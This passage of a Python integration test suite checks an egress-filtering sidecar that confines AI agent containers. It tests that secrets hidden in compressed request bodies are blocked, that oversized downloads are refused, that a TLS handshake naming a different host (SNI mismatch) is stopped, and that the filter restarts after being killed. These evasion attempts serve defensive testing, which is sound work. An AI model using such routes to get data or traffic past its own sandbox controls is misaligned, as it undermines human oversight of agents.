        self.assertEqual(out.returncode, 0, out.stderr)
        answers = {tuple(line.split(" ")[:2]): line.split(" ")[2] for line in out.stdout.splitlines()}
        self.assertEqual(len(answers), 24, out.stdout)
        for (form, url), status in answers.items():
            with self.subTest(form, url=url):
                self.assertEqual(status, "403", out.stdout)
        secret = self.SECRETS["SECRET"].encode()
        for data in self.tls.received + self.plain.received:
            _, _, body = data.partition(b"\r\n\r\n")
            for inflated in _inflations(body):
                self.assertNotIn(secret, inflated)

    def test_compressed_data_with_no_secret_arrives_whole(self):
        before = len(self.tls.received)
        body = "".join(f"line {i} of an ordinary log, nothing to hide\n" for i in range(50_000))
        script = ("import gzip, subprocess, sys; data = gzip.compress(sys.stdin.buffer.read()); "
                  "print(subprocess.run(['curl', '-sS', '-m', '60', '-o', '/dev/null', '-w', '%{http_code}', "
                  "'-H', 'Content-Type: application/gzip', "
                  "'--data-binary', '@-', sys.argv[1]], input=data, capture_output=True).stdout.decode())")
        out = self.project.cli("exec", self.name, "--", "python3", "-c", script,
                               f"https://{self.host}:{self.tls.port}/", input=body, timeout=300)
        self.assertEqual(out.stdout.strip(), "200", out.stderr)
        _, _, arrived = self.tls.received[before].partition(b"\r\n\r\n")
        self.assertEqual(gzip.decompress(arrived), body.encode())


def _inflations(data: bytes) -> list[bytes]:
    """What a server could make of a body: each stream in it inflated as far as it goes."""
    out = [data]
    for start in range(len(data)):
        for wbits in (31, 15, -15):
            try:
                out.append(zlib.decompressobj(wbits).decompress(data[start:start + (1 << 22)]))
            except zlib.error:
                pass
        if start > 4096:
            break  # each form puts its stream first, or (gzip after 1 MB) in one stream from the start
    return out


class DownloadsTest(support.IntegrationTest):
    """pipelock reads an inspected answer whole before scanning it (about a second and 17 MB per MB): a
    download larger than the sidecar inspects is refused with a reason that says what to do, never cut short
    and never the end of the sidecar; under the limit it arrives intact; through a passthrough host a 200 MB
    one arrives intact. And if pipelock dies (an agent making it outgrow its memory), the gate brings it back."""

    BIG, SMALL = 200 * 2**20, 3 * 2**20

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        support.sidecar_image()

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self):
                size = int(self.path.rsplit("/", 1)[-1])
                self.send_response(200)
                self.send_header("Content-Type", "application/octet-stream")
                self.send_header("Content-Length", str(size))
                self.end_headers()
                chunk = bytes(range(256)) * 4096
                try:
                    for _ in range(size // len(chunk)):
                        self.wfile.write(chunk)
                    self.wfile.write(chunk[:size % len(chunk)])
                except OSError:
                    pass  # refused half way: the sidecar stopped reading

            def log_message(self, *args):
                pass

        cls.ca = support.TestCA()
        cls.tls = cls.ca.wrap(support.Server(Handler))
        cls.plain = support.Server(Handler)
        cls.host = support.host_address()
        private = [f"{cls.host}:{cls.tls.port}", f"{cls.host}:{cls.plain.port}"]
        cls.project = Project({"bottles": {
            "inspected": {"egress": {"private_hosts": private, "ca_cert": str(cls.ca.cert)}},
            "passing": {"egress": {"private_hosts": private, "passthrough": [cls.host], "ca_cert": str(cls.ca.cert)}}},
            "agents": {"i": {"bottle": "inspected"}, "p": {"bottle": "passing"}}}, {})
        cls.names = {}
        for agent in ("i", "p"):
            out = cls.project.cli("start", agent, "--yes", "--detach")
            assert out.returncode == 0, out.stderr
            cls.names[agent] = out.stdout.strip()

    @classmethod
    def tearDownClass(cls):
        for name in cls.names.values():
            cls.project.cli("stop", name)
        cls.tls.close()
        cls.plain.close()
        cls.ca.close()
        cls.project.tmp.cleanup()
        super().tearDownClass()

    def fetch(self, agent: str, scheme: str, size: int) -> tuple[str, str, str]:
        """(status, bytes that arrived, stderr) of a download from inside the bottle."""
        port = self.tls.port if scheme == "https" else self.plain.port
        got = self.project.cli("exec", self.names[agent], "--", "sh", "-c",
                               f"curl -sS -m 300 -o /tmp/got -w '%{{http_code}}' {scheme}://{self.host}:{port}/{size}; "
                               "echo; wc -c < /tmp/got; rm -f /tmp/got", timeout=400)
        lines = got.stdout.split()
        return (lines[0] if lines else "", lines[1] if len(lines) > 1 else "", got.stderr)

    def sidecar(self, agent: str):
        return support.sdk().containers.get(bottle.Names(self.names[agent]).sidecar)

    def sidecar_running(self, agent: str) -> bool:
        return self.sidecar(agent).status == "running"

    def test_under_the_limit_an_inspected_download_arrives_intact(self):
        for scheme in ("https", "http"):
            with self.subTest(scheme):
                self.assertEqual(self.fetch("i", scheme, self.SMALL)[:2], ("200", str(self.SMALL)))

    def test_a_big_inspected_download_is_refused_with_a_reason_never_cut_short(self):
        for scheme in ("https", "http"):
            with self.subTest(scheme):
                status, size, err = self.fetch("i", scheme, self.BIG)
                self.assertNotEqual(status, "200", f"{scheme}: {size} bytes came as a whole answer")
                self.assertIn(status, ("403", "502"), err)
                self.assertTrue(self.sidecar_running("i"))
        egress = self.project.cli("logs", self.names["i"], "--egress")
        self.assertIn("egress.passthrough", egress.stdout)
        self.assertEqual(self.fetch("i", "https", self.SMALL)[:2], ("200", str(self.SMALL)), "the sidecar still works")

    def test_a_200_mb_download_through_a_passthrough_host(self):
        self.assertEqual(self.fetch("p", "https", self.BIG)[:2], ("200", str(self.BIG)))

    def test_later_tunnels_to_a_passthrough_host_are_still_judged_by_pipelock(self):
        """Once pipelock has let a tunnel to a passthrough host through, the gate tells the next ones to go
        ahead before pipelock answers (gate.go, passThrough). Each still arrives whole, and pipelock still
        judges each: a TLS that names another host than the tunnel's (its SNI check) does not get through,
        and `logs --egress` says so; the same handshake naming no other host does."""
        for _ in range(3):
            self.assertEqual(self.fetch("p", "https", self.SMALL)[:2], ("200", str(self.SMALL)))

        def handshake(*extra: str) -> str:
            return self.project.cli("exec", self.names["p"], "--", "sh", "-c",
                                    f"echo | openssl s_client -proxy ${{HTTPS_PROXY#http://}} "
                                    f"-connect {self.host}:{self.tls.port} {' '.join(extra)} 2>&1; true").stdout

        self.assertRegex(handshake(), r"Cipher is TLS", "the control: a handshake with no other name gets through")
        other = handshake("-servername", "elsewhere.example")
        self.assertIn("Cipher is (NONE)", other)
        self.assertNotRegex(other, r"Cipher is TLS")
        self.assertIn("sni_mismatch", self.project.cli("logs", self.names["p"], "--egress").stdout)

    def test_the_gate_brings_pipelock_back_when_it_dies(self):
        sidecar = self.sidecar("p")
        pids = [int(row[1]) for row in sidecar.top()["Processes"] if row[-1].startswith("/pipelock")]
        self.assertTrue(pids)
        for pid in pids:
            os.kill(pid, signal.SIGKILL)
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and self.fetch("p", "https", self.SMALL)[0] != "200":
            time.sleep(0.5)
        self.assertEqual(self.fetch("p", "https", self.SMALL)[:2], ("200", str(self.SMALL)))
        self.assertTrue(self.sidecar_running("p"))
        egress = self.project.cli("logs", self.names["p"], "--egress")
        self.assertIn("restarted", egress.stdout)
